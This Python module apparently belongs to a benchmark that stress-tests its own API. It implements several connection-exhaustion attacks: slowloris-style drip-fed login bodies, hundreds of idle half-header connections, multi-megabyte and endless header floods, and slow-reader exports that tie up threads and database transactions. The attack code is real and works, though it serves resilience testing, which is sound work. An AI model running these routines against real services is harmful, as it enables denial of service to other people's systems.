"""Attacks on connections to the API: requests that come slowly, are too large, or never end."""

from __future__ import annotations

import select
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial

from bench.attacks.attacker import Attacker
from bench.quick_mode import full_or_quick

SLOW_BODIES = 16
SLOW_BODY_BYTES = 70_000  # more than web reads before a thread takes the request
DRIP_SECONDS = 2.0
IDLE_CONNECTIONS = full_or_quick(600, 20)
HEAD_LINES = full_or_quick(125_000, 1_000)  # of 13 bytes: 1.6 MB
ENDLESS_BYTES_MAX = full_or_quick(32 * 1_048_576, 65_536)  # of a head, for this machine's sake
EXPORTS = 8
STATES, STATE_LENGTH = full_or_quick(12, 2), 900_000
RECEIVE_BYTES = 4096
READ_BYTES = 65_536
ESTABLISHED = 1  # the first member of Linux's tcp_info
START = b"GET /health/live HTTP/1.1\r\nHost: attack\r\n"


@contextmanager
def slow_bodies(attacker: Attacker) -> Iterator[None]:
    """Sixteen POSTs of one address whose bodies come a byte every two seconds.

    Each may hold one of web's threads until its body has come.
    """

    def send_slowly() -> None:
        head = (
            f"POST /api/auth/login HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n"
            f"Content-Length: {SLOW_BODY_BYTES}\r\n\r\n{{"
        )
        with attacker.connect() as connection:
            connection.sendall(head.encode())
            while not _is_closed(connection):
                if attacker.stopping.wait(DRIP_SECONDS):
                    return
                connection.sendall(b" ")
        attacker.stopping.wait(DRIP_SECONDS)

    with attacker.repeating(*[send_slowly] * SLOW_BODIES):
        yield


@contextmanager
def idle_connections(attacker: Attacker) -> Iterator[None]:
    """Six hundred connections of one address with half a head each, opened anew when closed."""

    def send_half() -> None:
        with attacker.connect() as connection:
            connection.sendall(START + b"X-Half: ")
            while not _is_closed(connection):
                if attacker.stopping.wait(DRIP_SECONDS):
                    return
        attacker.stopping.wait(DRIP_SECONDS)

    with attacker.repeating(*[send_half] * IDLE_CONNECTIONS):
        yield


@contextmanager
def large_heads(attacker: Attacker) -> Iterator[None]:
    """Requests of one address with 1.6 MB of headers of one name each, two at once.

    Whoever joins them one by one takes quadratic time on web's event loop.
    """
    request = START + b"a: bbbbbbbb\r\n" * HEAD_LINES + b"Connection: close\r\n\r\n"

    def send() -> None:
        with attacker.connect() as connection:
            connection.sendall(request)
            while connection.recv(READ_BYTES):
                pass

    with attacker.repeating(send, send):
        yield


@contextmanager
def endless_heads(attacker: Attacker) -> Iterator[None]:
    """Four connections of one address that send distinct headers without end."""

    def send(prefix: bytes) -> None:
        length, number = 0, 0
        with attacker.connect() as connection:
            connection.sendall(START)
            while length < ENDLESS_BYTES_MAX and not attacker.stopping.is_set():
                lines = b"".join(b"%b-%d: 1\r\n" % (prefix, number + n) for n in range(4_000))
                connection.sendall(lines)
                length, number = length + len(lines), number + 4_000

    with attacker.repeating(*(partial(send, b"n%d" % n) for n in range(4))):
        yield


@contextmanager
def slow_readers(attacker: Attacker) -> Iterator[None]:
    """Eight exports of one account whose answers nobody reads.

    Each may hold a thread, a database connection and its transaction until it is read.
    """
    client = attacker.account()
    for number in range(STATES):
        state = {"type": "settings", "entityId": f"e{number}", "encryptedData": "x" * STATE_LENGTH}
        state |= {"version": "1"}
        body = state | {"vectorClock": {client.agent_id: number + 1}}
        client.request("POST", "/api/sync/push", json=body)
    request = (
        f"POST /api/auth/export HTTP/1.1\r\nHost: attack\r\nContent-Length: 0\r\n"
        f"Authorization: {client.http.headers['Authorization']}\r\n"
        f"X-Agent-ID: {client.agent_id}\r\n\r\n"
    ).encode()

    def export() -> None:
        with attacker.connect(receive_bytes=RECEIVE_BYTES) as connection:
            connection.sendall(request)
            while not attacker.stopping.wait(DRIP_SECONDS):
                if not _is_established(connection):
                    break
        attacker.stopping.wait(DRIP_SECONDS)

    with attacker.repeating(*[export] * EXPORTS):
        yield


def _is_closed(connection: socket.socket) -> bool:
    """Return whether the server ended the connection; whatever it says is read and forgotten."""
    while select.select([connection], [], [], 0)[0]:
        if not connection.recv(READ_BYTES):
            return True
    return False


def _is_established(connection: socket.socket) -> bool:
    """Return whether the server has not ended the connection; nothing is read."""
    state: bytes = connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
    return state[0] == ESTABLISHED
